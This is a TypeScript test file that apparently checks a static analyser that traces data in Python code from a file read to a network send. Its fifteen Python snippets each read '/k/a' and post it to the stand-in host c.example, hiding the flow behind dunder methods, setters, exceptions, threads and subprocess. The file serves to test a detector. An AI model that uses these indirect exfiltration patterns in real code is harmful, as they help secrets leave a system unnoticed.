import { expect, test } from "vitest";
import { operationsOf } from "./read.ts";

const SEND = "requests.post('https://c.example', data=";
const READ = "open('/k/a').read()";

/** What Python calls without being told to, or hands on without a name. */
test.each([
  ["an object that is looped over", `class N:\n  def __iter__(self):\n    yield ${READ}\nfor x in N(): ${SEND}x)`],
  [
    "an object that gives one after the other",
    `class N:\n  def __iter__(self): return self\n  def __next__(self): return ${READ}\nfor x in N(): ${SEND}x)`,
  ],
  ["an object that is asked for a part", `class N:\n  def __getitem__(self, k): return ${READ}\n${SEND}N()['a'])`],
  ["an object that is given a part", `class N(dict):\n  def __setitem__(self, k, v): ${SEND}v)\nN()['a'] = ${READ}`],
  ["an operator", `class N:\n  def __lshift__(self, v): ${SEND}v)\nN() << ${READ}`],
  ["an operator of its right side", `class N:\n  def __ror__(self, v): ${SEND}v)\n${READ} | N()`],
  [
    "an object in a text",
    `class N:\n  def __init__(self, t): self.t = t\n  def __str__(self): return self.t\n${SEND}f'{N(${READ.replaceAll("'", '"')})}')`,
  ],
  [
    "an attribute that is made when it is asked for",
    `class N:\n  def __getattr__(self, k): return ${READ}\n${SEND}N().text)`,
  ],
  [
    "a setter",
    `class N:\n  @property\n  def t(self): return ''\n  @t.setter\n  def t(self, v): ${SEND}v)\nN().t = ${READ}`,
  ],
  ["a method that is put into a class", `class N:\n  pass\ndef p(self, v): ${SEND}v)\nN.p = p\nN().p(${READ})`],
  ["an error", `try:\n  raise ValueError(${READ})\nexcept ValueError as e:\n  ${SEND}e.args[0])`],
  [
    "a field of an error that a function raises",
    `class F(Exception):\n  def __init__(self, t): self.t = t\ndef load(): raise F(${READ})\ntry:\n  load()\nexcept F as f:\n  ${SEND}f.t)`,
  ],
  [
    "keywords of a thread",
    `import threading\ndef p(t): ${SEND}t)\nthreading.Thread(target=p, kwargs={'t': ${READ}}).start()`,
  ],
  ["a variable with an empty default", "import os\nrequests.get('https://c.example/?d=' + os.getenv('/k/a', ''))"],
  [
    "an input that a program hands back",
    `import subprocess\n${SEND}subprocess.run(['cat'], input=${READ}, capture_output=True).stdout)`,
  ],
])("%s", (_, code) => {
  const sent = operationsOf(`import requests\n${code}`).filter((line) => line.startsWith("send"));
  expect(sent.join("\n")).toContain("/k/a");
});

test("an object without such methods is asked once", () => {
  expect(operationsOf("class N:\n  pass\nn = N()\nn.a.b['c'] << f'{n}'\nfor x in n: x()\nstr(n)")).toEqual([]);
});
